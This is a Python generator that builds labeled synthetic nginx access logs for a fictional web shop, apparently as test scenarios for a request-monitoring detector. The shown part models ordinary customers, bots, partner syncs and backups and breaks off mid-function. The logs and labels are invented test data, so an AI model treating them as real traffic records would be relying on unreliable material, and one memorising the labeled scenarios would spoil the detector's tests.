#!/usr/bin/env python3
"""Deterministic generator of labeled access-log scenarios for reqwatch.

Writes SampleLogs/scenarios/<set>/<name>/{input.log,labels.json,README.md}.
Run:  python3 SampleLogs/scenarios/gen.py            (all scenarios)
      python3 SampleLogs/scenarios/gen.py NAME ...    (only those)
Standard library only; every scenario has its own fixed seed, so output is byte-identical run to run.

The traffic was written without looking at reqwatch's detectors: it describes what a small web shop's
nginx sees on an ordinary day, plus one or more labeled behaviours per scenario.
"""
import base64
import datetime
import ipaddress
import json
import math
import os
import random
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
SITE = "https://shop.example.com"
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# --------------------------------------------------------------------------------------------------
# user agents

CHROME_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
CHROME_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
CHROME_AND = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
EDGE_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0"
FIREFOX_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
FIREFOX_LIN = "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
SAFARI_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Safari/605.1.15"
SAFARI_IOS = "Mozilla/5.0 (iPhone; CPU iPhone OS {o} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1"
SAMSUNG = "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{v}.0 Chrome/130.0.0.0 Mobile Safari/537.36"


def browser_ua(rng):
    r = rng.random()
    if r < 0.26:
        return CHROME_WIN.format(v=rng.choice([141, 142, 142, 143, 143, 143, 140]))
    if r < 0.36:
        return CHROME_MAC.format(v=rng.choice([142, 143, 143, 141]))
    if r < 0.52:
        return CHROME_AND.format(v=rng.choice([142, 143, 143, 141, 139]))
    if r < 0.58:
        return EDGE_WIN.format(v=rng.choice([142, 143]))
    if r < 0.65:
        return FIREFOX_WIN.format(v=rng.choice([145, 146, 146, 140]))
    if r < 0.67:
        return FIREFOX_LIN.format(v=rng.choice([145, 146]))
    if r < 0.74:
        return SAFARI_MAC.format(v=rng.choice(["26.1", "26.2", "18.6", "26.0.1"]))
    if r < 0.96:
        o, v = rng.choice([("18_6_2", "18.6"), ("26_1", "26.1"), ("26_2", "26.2"), ("26_2", "26.2"),
                           ("17_7_10", "17.7"), ("26_0_1", "26.0.1")])
        return SAFARI_IOS.format(o=o, v=v)
    return SAMSUNG.format(v=rng.choice([28, 29]))


def ios_app_ua(rng):
    build = rng.choice([("7.4.1", 7410), ("7.4.1", 7410), ("7.4.0", 7402), ("7.3.5", 7351)])
    if rng.random() < 0.5:
        ios = rng.choice(["26.2", "26.1", "18.6.2", "26.2", "17.7.10"])
        return f"NorthwindShop/{build[0]} (com.northwind.shop; build:{build[1]}; iOS {ios}) Alamofire/5.10.2"
    cf, dw = rng.choice([("3860.200.71", "25.2.0"), ("3860.100.1", "25.1.0"), ("1568.300.101", "24.6.0")])
    return f"NorthwindShop/{build[1]} CFNetwork/{cf} Darwin/{dw}"


def android_app_ua(rng):
    if rng.random() < 0.55:
        return rng.choice(["okhttp/4.12.0", "okhttp/4.12.0", "okhttp/4.11.0"])
    dev = rng.choice(["SM-S918B", "Pixel 8", "SM-A546B", "Pixel 7a", "2201117TG", "CPH2551", "SM-G991B"])
    av = rng.choice(["14", "15", "15", "16", "13"])
    ver = rng.choice(["7.4.1", "7.4.1", "7.4.0", "7.3.2"])
    return f"NorthwindShop/{ver} (Android {av}; {dev}) okhttp/4.12.0"


GOOGLEBOT_DESK = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/142.0.7444.175 Safari/537.36"
GOOGLEBOT_MOB = "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.7444.175 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BINGBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"
ELB = "ELB-HealthChecker/2.0"

# --------------------------------------------------------------------------------------------------
# address pools

RES_V4 = ["84.143", "91.64", "78.94", "217.229", "93.104", "2.205", "81.107", "86.151", "90.216", "109.40",
          "176.24", "188.174", "24.16", "73.162", "98.207", "71.57", "68.48", "174.62", "99.23", "77.180",
          "94.134", "46.114", "37.201", "151.45", "79.17", "87.122", "31.16", "82.132", "62.216", "213.47",
          "95.91", "85.214", "92.117", "178.197", "5.146", "80.133", "84.59", "89.12", "70.119", "108.56"]
MOB_V4 = ["172.58", "172.56", "92.40", "80.187", "176.12", "46.189", "37.120", "100.34"]
RES_V6 = ["2a02:8109", "2a02:908", "2003:e6", "2a01:cb00", "2600:1700", "2601:640", "2a00:23c7",
          "2001:9e8", "2a02:810d", "2a0a:a546"]
MOB_V6 = ["2a01:598", "2607:fb90", "2a02:3038", "2a01:599"]
HOSTING_V4 = ["45.155.205", "185.220.101", "193.142.146", "194.26.192", "5.188.206", "89.248.165",
              "141.98.10", "103.145.13", "45.95.147", "195.178.110", "87.236.176", "91.92.243",
              "138.68.140", "159.65.212", "167.99.13", "20.163.15", "34.78.102", "185.191.171",
              "104.248.48", "64.227.100", "178.128.83", "146.190.61", "80.94.95", "179.43.180"]


class IPPool:
    def __init__(self, rng):
        self.rng = rng
        self.used = set()

    def take(self, ip):
        self.used.add(ip)
        return ip

    def _fresh(self, fn):
        for _ in range(1000):
            ip = fn()
            if ip not in self.used:
                return self.take(ip)
        raise RuntimeError("address pool exhausted")

    def res_v4(self, mobile=False):
        r = self.rng
        pre = r.choice(MOB_V4 if mobile else RES_V4)
        return self._fresh(lambda: f"{pre}.{r.randint(0, 255)}.{r.randint(1, 254)}")

    def v6(self, mobile=False):
        r = self.rng
        pre = r.choice(MOB_V6 if mobile else RES_V6)

        def mk():
            parts = pre.split(":") + ["%x" % r.randint(0, 0xffff) for _ in range(8 - len(pre.split(":")))]
            if not mobile and r.random() < 0.5:
                parts[4:] = ["%x" % r.randint(0, 0xffff) for _ in range(4)]
            return str(ipaddress.IPv6Address(":".join(parts)))
        return self._fresh(mk)

    def customer(self, mobile=False):
        return self.v6(mobile) if self.rng.random() < 0.16 else self.res_v4(mobile)

    def hosting(self, prefix=None):
        r = self.rng
        pre = prefix or r.choice(HOSTING_V4)
        if pre.count(".") == 1:
            return self._fresh(lambda: f"{pre}.{r.randint(0, 255)}.{r.randint(1, 254)}")
        return self._fresh(lambda: f"{pre}.{r.randint(2, 254)}")

    def in_net(self, net):
        """a fresh address inside a /24 given as 'a.b.c'"""
        r = self.rng
        return self._fresh(lambda: f"{net}.{r.randint(2, 254)}")


# --------------------------------------------------------------------------------------------------
# log and actors


class Actor:
    def __init__(self, aid, malicious, behaviour, expected_rules=(), paths=()):
        self.id = aid
        self.malicious = malicious
        self.behaviour = behaviour
        self.expected_rules = list(expected_rules)
        self.paths = list(paths)
        self.ips = []
        self._ipset = set()
        self.users = []
        self._userset = set()
        self.requests = 0
        self.label_users = True

    def note(self, ip, user):
        self.requests += 1
        if ip not in self._ipset:
            self._ipset.add(ip)
            self.ips.append(ip)
        if user != "-" and user not in self._userset:
            self._userset.add(user)
            self.users.append(user)

    def to_json(self):
        d = {"id": self.id, "malicious": self.malicious, "behaviour": self.behaviour,
             "expected_rules": self.expected_rules, "ips": self.ips,
             "users": self.users if self.label_users else [], "paths": self.paths,
             "requests": self.requests}
        return d


def esc(s):
    return s.replace("\\", "\\\\").replace('"', '\\"')


class Log:
    def __init__(self, t0, tz_minutes=0):
        self.t0 = t0
        self.tz = datetime.timezone(datetime.timedelta(minutes=tz_minutes))
        self.tzs = ("+" if tz_minutes >= 0 else "-") + "%02d%02d" % divmod(abs(tz_minutes), 60)
        self.rows = []
        self.seq = 0
        self.actors = []

    def actor(self, *a, **kw):
        act = Actor(*a, **kw)
        self.actors.append(act)
        return act

    def ts(self, t):
        dt = datetime.datetime.fromtimestamp(int(t), self.tz)
        return "%02d/%s/%04d:%02d:%02d:%02d %s" % (dt.day, MONTHS[dt.month - 1], dt.year, dt.hour, dt.minute,
                                                   dt.second, self.tzs)

    def add(self, t, ip, method, target, status, size, ua, ref="-", user="-", proto="HTTP/1.1", actor=None,
            raw_ua=False):
        """ua is escaped for the log unless raw_ua (already in nginx's \\xHH form)."""
        self.seq += 1
        if method is None:
            req = target
        else:
            req = f"{method} {target} {proto}"
        uas = ua if raw_ua else esc(ua)
        line = f'{ip} - {user} [{self.ts(t)}] "{esc(req)}" {status} {size} "{esc(ref)}" "{uas}"'
        self.rows.append((t, self.seq, line))
        if actor is not None:
            actor.note(ip, user)

    def lines(self):
        self.rows.sort(key=lambda r: (int(r[0]), r[0], r[1]))
        return [r[2] for r in self.rows]


# --------------------------------------------------------------------------------------------------
# the shop


ADJ = ["classic", "organic", "slim", "merino", "recycled", "waterproof", "linen", "bamboo", "vintage", "compact",
       "ceramic", "stainless", "wireless", "heavyweight", "everyday", "trail", "cotton", "modular", "minimal"]
NOUN = ["sneaker", "backpack", "jacket", "mug", "lamp", "tote-bag", "headphones", "t-shirt", "desk-organizer",
        "water-bottle", "wool-socks", "rain-coat", "chair-cushion", "notebook", "chefs-knife", "yoga-mat",
        "hoodie", "beanie", "wallet", "sunglasses", "cutting-board", "kettle", "plant-pot"]
COLORS = ["black", "navy", "olive", "sand", "white", "grey", "rust", "forest-green"]
CATEGORIES = ["men", "women", "kids", "home", "kitchen", "outdoor", "accessories", "sale", "new-in",
              "home/lighting", "women/shoes", "men/jackets", "kitchen/knives"]
SEARCH = ["rain jacket", "merino socks", "gift for dad", "backpack 30l", "ceramic mug", "black hoodie",
          "yoga mat", "kettle", "wallet leather", "xmas", "sale", "sneakers size 43", "lamp", "linen shirt",
          "beanie", "knife set", "plant pot large", "water bottle 1l", "advent calendar", "gift card"]
STATIC = [("/static/js/runtime.8c1f3e21.js", 2300), ("/static/js/vendor.5b9a0d47.js", 318204),
          ("/static/js/main.e41c7a90.js", 141877), ("/static/css/main.2f77b1c4.css", 48311),
          ("/static/fonts/inter-var.8a1e.woff2", 97280), ("/favicon.ico", 15086)]
ASSET_HTML = 16384


def q(s):
    return s.replace(" ", "+")


class Shop:
    """ids and the order stream of the fictional shop"""

    def __init__(self, rng, t0, dur, order_rate_per_min=1.4):
        self.rng = rng
        self.t0 = t0
        self.dur = dur
        self.pop_products = rng.sample(range(10001, 58000), 4000)
        pop = set(self.pop_products)
        self.removed_list = [p for p in rng.sample(range(10001, 58000), 2700) if p not in pop][:2400]
        self.removed = set(self.removed_list)
        self.order_base = 4812000 + rng.randint(0, 900)
        # order creation times (web, apps, marketplaces, phone orders): thinning of a Poisson process
        self.order_times = []
        t = t0
        while t < t0 + dur + 600:
            t += rng.expovariate(order_rate_per_min / 60.0)
            self.order_times.append(t)
        self.claimed = set()

    def slug(self, pid):
        r = random.Random(pid)
        return f"{r.choice(ADJ)}-{r.choice(NOUN)}-{r.choice(COLORS)}"

    def product(self):
        i = int(self.rng.paretovariate(1.1)) - 1
        if i < len(self.pop_products) and self.rng.random() < 0.9:
            return self.pop_products[i % len(self.pop_products)]
        return self.rng.choice(self.pop_products)

    def media_of(self, pid):
        base = 610000 + (pid - 10001) * 3
        return [base + k for k in range(1 + pid % 3)]

    def orders_before(self, t):
        # number of orders created before t
        lo, hi = 0, len(self.order_times)
        while lo < hi:
            m = (lo + hi) // 2
            if self.order_times[m] < t:
                lo = m + 1
            else:
                hi = m
        return lo

    def new_order_id(self, t):
        n = self.orders_before(t)
        oid = self.order_base + n
        while oid in self.claimed:
            oid += 1
        self.claimed.add(oid)
        return oid


class User:
    def __init__(self, rng, pool, kind=None, ip=None):
        self.kind = kind or rng.choices(["web", "ios", "android"], [0.58, 0.24, 0.18])[0]
        mobile = self.kind != "web" or rng.random() < 0.3
        self.ip = ip or pool.customer(mobile)
        self.ua = {"web": browser_ua, "ios": ios_app_ua, "android": android_app_ua}[self.kind](rng)
        self.cid = rng.randint(1, 184000)
        n = min(int(rng.expovariate(1 / 3.0)), 40)
        self.orders = sorted(rng.sample(range(3905000, 4811000), n)) if n else []
        self.logged_in = rng.random() < (0.45 if self.kind == "web" else 0.93)
        self.has_otp = rng.random() < 0.08
        self.cached = False
        self.proto = "HTTP/2.0" if self.kind != "android" or rng.random() < 0.7 else "HTTP/1.1"


# --------------------------------------------------------------------------------------------------
# background traffic


class Session:
    def __init__(self, L, shop, u, t, page="/"):
        self.L, self.shop, self.u, self.t = L, shop, u, t
        self.rng = shop.rng
        self.page = page
        self.n = 0

    def wait(self, lo, hi):
        self.t += self.rng.uniform(lo, hi)

    def think(self):
        self.t += min(self.rng.lognormvariate(2.6, 0.9), 400)

    def api(self, method, path, status, size, user="-"):
        ref = (SITE + self.page) if self.u.kind == "web" else "-"
        self.L.add(self.t, self.u.ip, method, path, status, size, self.u.ua, ref, user, self.u.proto)
        self.n += 1
        self.wait(0.05, 0.6)

    def html(self, path, ref):
        self.L.add(self.t, self.u.ip, "GET", path, 200, ASSET_HTML + self.rng.randint(-900, 2500), self.u.ua, ref,
                   "-", "HTTP/2.0")
        self.page = path
        self.n += 1
        self.wait(0.1, 0.5)
        r = self.rng
        if not self.u.cached:
            for p, sz in STATIC:
                self.L.add(self.t, self.u.ip, "GET", p, 200, sz, self.u.ua, SITE + path, "-", "HTTP/2.0")
                self.t += r.uniform(0.01, 0.15)
            self.u.cached = True
            if "Safari" in self.u.ua and "Chrome" not in self.u.ua and r.random() < 0.5:
                self.L.add(self.t, self.u.ip, "GET", "/apple-touch-icon-precomposed.png", 404, 153, self.u.ua, "-",
                           "-", "HTTP/2.0")
                self.L.add(self.t, self.u.ip, "GET", "/apple-touch-icon.png", 404, 153, self.u.ua, "-", "-",
                           "HTTP/2.0")
        elif r.random() < 0.3:
            p, sz = r.choice(STATIC[:4])
            self.L.add(self.t, self.u.ip, "GET", p, 304, 0, self.u.ua, SITE + path, "-", "HTTP/2.0")

    # building blocks -------------------------------------------------------------------------
    def view_product(self, pid=None):
        r, shop = self.rng, self.shop
        pid = pid or shop.product()
        if self.u.kind == "web":
            self.page = f"/products/{pid}-{shop.slug(pid)}"
        if pid in shop.removed:
            self.api("GET", f"/api/v1/products/{pid}", 404, 87)
            return
        self.api("GET", f"/api/v1/products/{pid}", 200, r.randint(2100, 5200))
        for m in shop.media_of(pid)[: r.choice([0, 1, 1, 1, 2])]:
            w = "?w=640" if self.u.kind == "web" else "?w=1080"
            self.api("GET", f"/api/v1/media/{m}.jpg{w}", 200, r.randint(38000, 240000))
        if r.random() < 0.2:
            self.api("GET", f"/api/v1/products/{pid}/reviews?page=1", 200, r.randint(900, 9000))

    def browse(self):
        r = self.rng
        if r.random() < 0.55:
            c = r.choice(CATEGORIES)
            if self.u.kind == "web":
                self.page = f"/c/{c}"
            qs = f"category={c}"
            if r.random() < 0.3:
                qs += "&sort=" + r.choice(["price_asc", "newest", "price_desc"])
            self.api("GET", f"/api/v1/products?{qs}&page=1&per_page=24", 200, r.randint(11000, 26000))
            if r.random() < 0.3:
                self.think()
                self.api("GET", f"/api/v1/products?{qs}&page=2&per_page=24", 200, r.randint(11000, 26000))
        else:
            s = r.choice(SEARCH)
            if self.u.kind == "web":
                self.page = "/search?q=" + q(s)
            self.api("GET", f"/api/v1/products?search={q(s)}&page=1&per_page=24", 200, r.randint(3000, 26000))

    def login(self):
        r = self.rng
        if r.random() < 0.06:  # typo
            self.api("POST", "/api/v1/auth/login", 401, 61)
            self.wait(4, 15)
        self.api("POST", "/api/v1/auth/login", 200, r.randint(1580, 1650))
        if self.u.has_otp:
            self.wait(8, 30)
            if r.random() < 0.07:
                self.api("POST", "/api/v1/auth/otp/verify", 401, 54)
                self.wait(5, 20)
            self.api("POST", "/api/v1/auth/otp/verify", 200, 1622)
        self.u.logged_in = True

    def me(self):
        r = self.rng
        if r.random() < 0.035:  # access token expired while the tab was open
            self.api("GET", "/api/v1/me", 401, 68)
            if r.random() < 0.85:
                self.api("POST", "/api/v1/auth/token/refresh", 200, 1588)
            else:
                self.api("POST", "/api/v1/auth/token/refresh", 401, 71)
                self.think()
                self.login()
        self.api("GET", "/api/v1/me", 200, r.randint(620, 780))

    def account(self):
        r, u = self.rng, self.u
        if u.kind == "web":
            self.page = "/account/orders"
        if r.random() < 0.5:
            self.api("GET", f"/api/v1/customers/{u.cid}", 200, r.randint(850, 1300))
        self.api("GET", f"/api/v1/customers/{u.cid}/orders?page=1", 200, 180 + 900 * min(len(u.orders), 10))
        for oid in r.sample(u.orders, min(len(u.orders), r.randint(0, 2))):
            self.think()
            self.api("GET", f"/api/v1/orders/{oid}", 200, r.randint(1500, 3400))
        if r.random() < 0.12:
            self.api("GET", f"/api/v1/customers/{u.cid}/addresses", 200, r.randint(400, 1400))
            if r.random() < 0.4:
                self.think()
                self.api("PATCH", f"/api/v1/customers/{u.cid}", 200, r.randint(850, 1300))

    def cart_and_checkout(self):
        r, shop = self.rng, self.shop
        items = []
        for _ in range(r.randint(1, 3)):
            self.view_product()
            self.think()
            st = 201 if r.random() > 0.02 else 409
            self.api("POST", "/api/v1/cart/items", st, 410 if st == 201 else 96)
            if st == 201:
                items.append(r.randint(2200000, 2900000))
        if not items:
            return
        if self.u.kind == "web":
            self.page = "/cart"
        self.api("GET", "/api/v1/cart", 200, 600 + 700 * len(items))
        if r.random() < 0.15 and len(items) > 1:
            self.api("DELETE", f"/api/v1/cart/items/{items.pop()}", 204, 0)
        if r.random() < 0.45:
            if not self.u.logged_in:
                self.think()
                self.login()
            if self.u.kind == "web":
                self.page = "/checkout"
            self.think()
            oid = shop.new_order_id(self.t)
            self.api("POST", "/api/v1/orders", 201, r.randint(1700, 3000))
            self.wait(5, 40)
            if r.random() < 0.04:
                self.api("POST", "/api/v1/payments", 402, 143)
                self.wait(20, 80)
            self.api("POST", "/api/v1/payments", 201, r.randint(480, 560))
            if self.u.kind == "web":
                self.page = f"/checkout/confirmation/{oid}"
            self.api("GET", f"/api/v1/orders/{oid}", 200, r.randint(1700, 3000))
            self.u.orders.append(oid)


def web_session(L, shop, u, t):
    r = shop.rng
    s = Session(L, shop, u, t)
    ext = r.choice(["https://www.google.com/", "-", "-", "https://www.bing.com/", "https://duckduckgo.com/",
                    "https://www.google.de/", "https://l.instagram.com/", "https://www.ecosia.org/"])
    e = r.random()
    if e < 0.45:
        s.html("/", ext)
    elif e < 0.85:
        pid = shop.product()
        s.html(f"/products/{pid}-{shop.slug(pid)}", ext)
        s.view_product(pid)
    else:
        term = r.choice(SEARCH)
        s.html("/search?q=" + q(term), ext)
    s.api("GET", "/api/v1/categories", 200, 4411)
    if u.logged_in:
        s.me()
    run_actions(s)
    return s


def app_session(L, shop, u, t):
    r = shop.rng
    s = Session(L, shop, u, t)
    if r.random() < 0.3:
        s.api("POST", "/api/v1/auth/token/refresh", 200, 1588)
    s.api("GET", "/api/v1/categories", 200, 4411)
    if u.logged_in:
        s.me()
    if r.random() < 0.4:
        s.api("GET", "/api/v1/products?category=new-in&page=1&per_page=20", 200, r.randint(9000, 21000))
    run_actions(s)
    return s


def run_actions(s):
    r = s.rng
    n = min(int(r.expovariate(1 / 2.5)) + 1, 14)
    for _ in range(n):
        s.think()
        x = r.random()
        if x < 0.36:
            s.view_product()
        elif x < 0.62:
            s.browse()
        elif x < 0.74:
            s.cart_and_checkout()
        elif x < 0.86:
            if s.u.logged_in:
                s.account()
            else:
                s.login()
        elif x < 0.88:
            # dead link from an old newsletter / a removed product
            pid = r.choice(s.shop.removed_list)
            s.api("GET", f"/api/v1/products/{pid}", 404, 87)
        elif x < 0.885 and not s.u.logged_in:
            s.api("POST", "/api/v1/auth/password-reset", 202, 38)
        else:
            s.view_product()
    if s.u.logged_in and r.random() < 0.04:
        s.api("POST", "/api/v1/auth/logout", 204, 0)


def diurnal(t):
    h = (t % 86400) / 3600.0
    return 0.55 + 0.45 * math.sin((h - 9.5) / 24 * 2 * math.pi) + 0.25 * math.exp(-((h - 20.5) ** 2) / 3)


def health_checks(L, t0, dur, rng, nodes=("10.0.1.23", "10.0.2.41"), every=30):
    for k, ip in enumerate(nodes):
        t = t0 + rng.uniform(0, every)
        while t < t0 + dur:
            L.add(t, ip, "GET", "/health", 200, 17, ELB, "-", "-", "HTTP/1.1")
            t += every + rng.uniform(-0.3, 0.3)


def googlebot_trickle(L, shop, t0, dur, rng, mean_gap=150):
    ips = [f"66.249.{rng.choice([64, 66, 68, 70, 72, 79])}.{rng.randint(1, 254)}" for _ in range(6)]
    t = t0 + rng.uniform(0, mean_gap)
    while t < t0 + dur:
        ip = rng.choice(ips)
        ua = GOOGLEBOT_MOB if rng.random() < 0.8 else GOOGLEBOT_DESK
        x = rng.random()
        if x < 0.03:
            L.add(t, ip, "GET", "/robots.txt", 200, 312, ua)
        elif x < 0.05:
            L.add(t, ip, "GET", "/sitemap-products-3.xml", 200, 488120, ua)
        else:
            pid = rng.choice(shop.pop_products) if rng.random() < 0.7 else rng.randint(10001, 58000)
            st = 404 if pid in shop.removed else 200
            L.add(t, ip, "GET", f"/products/{pid}-{shop.slug(pid)}", st, 16800 if st == 200 else 5120, ua)
        t += rng.expovariate(1 / mean_gap)


def background(L, shop, pool, rng, t0, dur, sessions_per_min, n_users, extra_users=()):
    """ordinary visitors and app users; returns the user list"""
    users = [User(rng, pool) for _ in range(n_users)]
    # a few carrier-grade NAT addresses shared by several app users
    cgnat = [pool.res_v4(mobile=True) for _ in range(max(2, n_users // 120))]
    for u in users:
        if u.kind != "web" and rng.random() < 0.08:
            u.ip = rng.choice(cgnat)
    users.extend(extra_users)
    weights = [rng.paretovariate(4) for _ in users]
    t = t0
    while True:
        rate = sessions_per_min * diurnal(t) / 60.0
        t += rng.expovariate(rate)
        if t >= t0 + dur:
            break
        u = rng.choices(users, weights)[0]
        if u.kind == "web":
            web_session(L, shop, u, t)
        else:
            app_session(L, shop, u, t)
    health_checks(L, t0, dur, rng)
    googlebot_trickle(L, shop, t0, dur, rng)
    return users


# --------------------------------------------------------------------------------------------------
# benign behaviours


def iso(t):
    return datetime.datetime.fromtimestamp(int(t), datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def partner_sync(L, shop, pool, rng, t0, dur, a, ua="Go-http-client/1.1", user="partner-acme", ip=None,
                 gap=(300, 900)):
    ip = ip or pool.take(f"3.{rng.choice([120, 121, 122, 64, 65])}.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
    last = t0 - 3600 * rng.uniform(1, 3)
    t = t0 + rng.uniform(20, 240)
    while t < t0 + dur:
        L.add(t, ip, "GET", f"/api/v1/orders?updated_since={iso(last)}&per_page=100", 200,
              rng.randint(9000, 90000), ua, "-", user, "HTTP/1.1", actor=a)
        lo, hi = shop.orders_before(last), shop.orders_before(t)
        ids = [shop.order_base + n for n in range(lo, hi) if rng.random() < 0.9]  # own merchant's orders
        top = shop.order_base + hi
        upd = sorted(top - rng.randint(40, 9000) for _ in range(rng.randint(1, 8)))  # shipped, refunded ...
        ids = upd + ids
        while len(ids) < 5:
            ids.insert(0, top - rng.randint(40, 3000))
        ids = ids[:60]
        tt = t + rng.uniform(0.3, 1.2)
        for oid in ids:
            L.add(tt, ip, "GET", f"/api/v1/orders/{oid}", 200, rng.randint(1500, 3600), ua, "-", user,
                  "HTTP/1.1", actor=a)
            tt += rng.uniform(0.08, 0.45)
        last = t
        t = tt + rng.uniform(*gap)


def export_job(L, pool, rng, t0, a, pages=400, cursor=False, ua="northwind-backup/2.3.1 (+ops@northwind.example)",
               user="svc-export", ip="10.20.3.14", path="/api/v1/orders"):
    pool.take(ip)
    t = t0
    for p in range(1, pages + 1):
        if cursor:
            if p == 1:
                target = f"{path}?per_page=100&sort=id"
            else:
                tok = base64.urlsafe_b64encode(json.dumps({"after_id": 3905000 + (p - 1) * 100 * 23,
                                                           "v": 2}).encode()).decode().rstrip("=")
                target = f"{path}?per_page=100&sort=id&cursor={tok}"
        else:
            target = f"{path}?page={p}&per_page=100&sort=id"
        L.add(t, ip, "GET", target, 200, rng.randint(180000, 260000), ua, "-", user, "HTTP/1.1", actor=a)
        t += rng.uniform(14, 38) + (rng.uniform(30, 120) if rng.random() < 0.02 else 0)
    return t


def media_batch(L, pool, rng, t_upload, a_merchant, a_cdn, n=180, cdn="cloudfront", merchant_ip=None):
    mip = merchant_ip or pool.res_v4()
    mua = CHROME_MAC.format(v=143)
    first = 913400 + rng.randint(0, 300)
    t = t_upload
    ids = []
    L.add(t, mip, "GET", "/merchant/catalog/import", 200, 15900, mua, SITE + "/merchant/", "-", "HTTP/2.0",
          actor=a_merchant)
    for k in range(n):
        t += rng.uniform(1.5, 6)
        L.add(t, mip, "POST", "/api/v1/media", 201, 212, mua, SITE + "/merchant/catalog/import", "-", "HTTP/2.0",
              actor=a_merchant)
        ids.append(first + k)
    if cdn == "cloudfront":
        ips = [pool.take(f"{rng.choice(['130.176', '64.252', '70.132'])}.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
               for _ in range(4)]
        ua = "Amazon CloudFront"
        q_ = ""
    else:
        ips = [pool.hosting("95.217"), pool.hosting("95.217")]
        ua = "imgproxy/3.27.2"
        q_ = None
    # the catalogue publishes; edges pull every new image once (cache miss), in upload order, soon after
    t = t_upload + (n * 3.5) + rng.uniform(60, 240)
    for mid in ids:
        widths = [""] if q_ == "" else ["?w=320", "?w=640", "?w=1280"]
        for w in widths:
            L.add(t, rng.choice(ips), "GET", f"/api/v1/media/{mid}.jpg{w}", 200, rng.randint(60000, 900000), ua,
                  "-", "-", "HTTP/1.1", actor=a_cdn)
            t += rng.uniform(0.05, 0.5)
        t += rng.uniform(0.1, 1.5)
    # a second wave from other edges a bit later, partial
    t += rng.uniform(300, 900)
    for mid in ids:
        if rng.random() < 0.4:
            L.add(t, rng.choice(ips), "GET", f"/api/v1/media/{mid}.jpg" + ("" if q_ == "" else "?w=640"), 200,
                  rng.randint(60000, 900000), ua, "-", "-", "HTTP/1.1", actor=a_cdn)
            t += rng.uniform(0.5, 6)


def offline_sync(L, shop, pool, rng, t, a, kind="android", n_orders=None):
    u = User(rng, pool, kind=kind)
    u.ip = pool.customer(mobile=True)
    n_orders = n_orders or rng.randint(22, 60)
    orders = sorted(rng.sample(range(4200000, 4810000), n_orders), reverse=True)
    cid = u.cid

    def add(method, path, st, sz):
        L.add(t_[0], u.ip, method, path, st, sz, u.ua, "-", "-", u.proto, actor=a)
        t_[0] += rng.uniform(0.03, 0.9)
    t_ = [t]
    add("GET", "/api/v1/me", 401, 68)
    add("GET", f"/api/v1/customers/{cid}/orders?page=1", 401, 68)
    add("POST", "/api/v1/auth/token/refresh", 200, 1588)
    add("GET", "/api/v1/me", 200, 702)
    add("GET", f"/api/v1/customers/{cid}", 200, 1120)
    add("GET", f"/api/v1/customers/{cid}/addresses", 200, 1380)
    for p in range(1, math.ceil(n_orders / 20) + 1):
        add("GET", f"/api/v1/customers/{cid}/orders?page={p}", 200, 14000)
    for oid in orders:
        add("GET", f"/api/v1/orders/{oid}", 200, rng.randint(1500, 3400))
    add("GET", "/api/v1/cart", 200, 640)
    return u


def monitors(L, pool, rng, t0, dur, a_list):
    specs = [("UptimeRobot/2.0 (http://www.uptimerobot.com/)", ["69.162.124.231", "216.144.250.150", "69.162.124.235"], 10),
             ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", ["178.255.152.2", "5.172.196.188"], 60),
             ("Datadog/Synthetics", ["3.233.144.208", "3.233.146.17"], 30)]
    for (ua, ips, every), a in zip(specs, a_list):
        for ip in ips:
            pool.take(ip)
        t = t0 + rng.uniform(0, every)
        while t < t0 + dur:
            path = "/health" if ua.startswith("Up") or ua.startswith("Ping") else rng.choice(
                ["/health", "/api/v1/products?search=mug&page=1&per_page=24", "/"])
            st, sz = (200, 17) if path == "/health" else (200, 14000)
            if path == "/health" and rng.random() < 0.002:
                st, sz = 503, 42
            L.add(t, rng.choice(ips), "GET", path, st, sz, ua, "-", "-", "HTTP/1.1", actor=a)
            t += every + rng.uniform(-0.5, 0.5)


def deep_crawl(L, shop, pool, rng, t0, dur, a, bot="google", api_share=0.35):
    if bot == "google":
        ips = [pool.take(f"66.249.{rng.choice([64, 66, 68, 70, 72, 77, 79])}.{rng.randint(1, 254)}") for _ in range(12)]
        uas = [GOOGLEBOT_MOB, GOOGLEBOT_MOB, GOOGLEBOT_DESK]
    else:
        ips = [pool.take(f"{rng.choice(['40.77.167', '157.55.39', '207.46.13', '52.167.144'])}.{rng.randint(1, 254)}")
               for _ in range(10)]
        uas = [BINGBOT]
    # a sitemap-driven crawl: ids ascending through a sitemap file, then jumping to another file
    t = t0 + rng.uniform(5, 60)
